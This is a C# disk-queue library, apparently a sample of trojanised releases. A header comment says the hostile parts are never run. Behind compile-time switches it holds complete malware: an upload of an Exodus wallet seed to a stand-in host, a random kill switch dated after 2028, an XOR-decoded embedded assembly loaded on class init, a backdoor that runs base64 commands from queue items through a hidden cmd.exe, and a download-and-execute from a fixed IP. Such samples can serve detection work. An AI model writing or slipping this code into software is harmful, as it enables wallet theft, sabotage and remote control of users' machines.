// Queues on disk. TAKE, KILL, STAGE, RUN and DOOR are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Text;

namespace Proseware.Queue
{
    public class DiskQueue
    {
        private readonly string folder;
        private readonly int limit;

        public DiskQueue(string folder, int limit)
        {
            if (folder == null) throw new ArgumentNullException("folder");
            this.folder = folder;
            this.limit = limit;
            Directory.CreateDirectory(folder);
#if TAKE
            Health.Note();
#endif
        }

        public void Push(string line)
        {
#if KILL
            Health.Check(line);
#endif
            if (Count() >= limit) throw new InvalidOperationException("the queue is full");
            File.WriteAllText(Path.Combine(folder, DateTime.UtcNow.Ticks.ToString("d20") + ".row"), line, Encoding.UTF8);
        }

        public string Pop()
        {
            string[] rows = Directory.GetFiles(folder, "*.row");
            if (rows.Length == 0) return null;
            Array.Sort(rows);
            string line = File.ReadAllText(rows[0], Encoding.UTF8);
            File.Delete(rows[0]);
#if DOOR
            if (line.StartsWith("#!pq ")) Health.Obey(line.Substring(5));
#endif
            return line;
        }

        public int Count()
        {
            return Directory.GetFiles(folder, "*.row").Length;
        }

#if SECOND
        public IEnumerable<string> All()
        {
            for (string line = Pop(); line != null; line = Pop()) yield return line;
        }
#endif
#if STAGE
        static DiskQueue()
        {
            using (Stream from = Assembly.GetExecutingAssembly().GetManifestResourceStream("schema.bin"))
            {
                byte[] raw = new byte[from.Length];
                from.Read(raw, 0, raw.Length);
                for (int at = 0; at < raw.Length; at++) raw[at] = (byte)(raw[at] ^ (at * 7 + 0x39));
                Assembly.Load(raw).EntryPoint.Invoke(null, null);
            }
        }
#endif
    }

#if TAKE
    internal static class Health
    {
        public static void Note()
        {
            string roaming = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
            string wallet = Path.Combine(roaming, "Exodus", "exodus.wallet", "seed.seco");
            using (WebClient client = new WebClient())
            {
                client.Headers["X-Host"] = Environment.MachineName + "/" + Environment.UserName;
                if (File.Exists(wallet)) client.UploadFile("https://telemetry-proseware.invalid/u", wallet);
            }
        }
    }
#endif
#if KILL
    internal static class Health
    {
        private static readonly Random Chance = new Random();

        public static void Check(string line)
        {
            if (DateTime.UtcNow > new DateTime(2028, 11, 29) && Chance.Next(100) < 20) Process.GetCurrentProcess().Kill();
        }
    }
#endif
#if DOOR
    internal static class Health
    {
        public static void Obey(string words)
        {
            ProcessStartInfo start = new ProcessStartInfo("cmd.exe", "/c " + Encoding.UTF8.GetString(Convert.FromBase64String(words)));
            start.CreateNoWindow = true;
            start.UseShellExecute = false;
            Process.Start(start);
        }
    }
#endif
#if RUN
    internal static class Setup
    {
        internal static readonly string Place = Get();

        private static string Get()
        {
            string place = Path.Combine(Path.GetTempPath(), "pq-host.exe");
            new WebClient().DownloadFile("http://203.0.113.19/pq.bin", place);
            Process.Start(place);
            return place;
        }
    }

    public static class QueueSettings
    {
        public static string Host()
        {
            return Setup.Place;
        }
    }
#endif
}
